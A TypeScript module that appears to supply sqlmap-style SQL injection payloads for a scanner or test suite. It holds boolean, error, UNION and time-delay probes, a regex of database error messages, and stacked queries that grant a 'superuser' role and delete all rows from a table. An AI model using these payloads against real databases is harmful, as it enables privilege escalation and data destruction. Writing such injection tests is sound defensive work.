/** Payloads in the manner of sqlmap: by what betrays that one was executed. */

/** Pairs of which the first is true in SQL and the second false: as text they mean the same. */
export const BOOLEANS: readonly (readonly [string, string])[] = [
  [`zz' or '1'='1`, `zz' or '1'='2`],
  [`0 or 1=1`, `0 or 1=2`],
  [`case when 1=1 then id else -id end`, `case when 1=2 then id else -id end`],
  [`zz%' or '1' like '1`, `zz%' or '1' like '2`],
  [`zz') or ('1'='1`, `zz') or ('1'='2`],
  [`zz" or "1"="1`, `zz" or "1"="2`],
  [`id desc, (select 1 where 1=1)`, `id asc, (select 1 where 1=2)`],
]

/** What breaks a statement, or divides by zero in it. */
export const ERRORS = [
  `'`,
  `"`,
  `')`,
  `\\`,
  `zz'"`,
  `id;--`,
  `id desc, (select no_such_column)`,
  `'||cast((select 'a' where 1/0 = 1) as text)||'`,
  `zz' and 1=cast('a' as integer) --`,
]

/** What appears in an answer only when a database has put it together. */
export const MARK = 'laimark'
export const UNIONS = [
  `zz' union select 1, 'lai'||'mark' --`,
  `0 union select 1, 'lai'||'mark' --`,
  `zz') union select 1, 'lai'||'mark' --`,
  `zz' union select 'lai'||'mark' --`,
]

export const STACKED = [`zz'; update users set role = 'superuser' --`, `1; delete from rooms --`]

/** Pairs of which the first takes a while where it is executed, and the second does not. */
export function delays(isPostgres: boolean): readonly (readonly [string, string])[] {
  const slow = isPostgres
    ? `(select count(*) from pg_sleep(0.5))`
    : '(with recursive c(x) as (select 1 union all select x + 1 from c where x < 6000000) select count(*) from c)'
  const quick = '(select 1)'
  return [
    [`zz' or ${slow} = 7 --`, `zz' or ${quick} = 7 --`],
    [`0 or ${slow} = 7`, `0 or ${quick} = 7`],
  ]
}

/** The databases' own words for a statement that they cannot run. */
export const DATABASE_WORDS =
  /sqlite_|sqlite error|syntax error|unrecognized token|no such column|does not exist|division by zero|invalid input syntax|unterminated|near "|knex|\b42601\b|\b22012\b/i
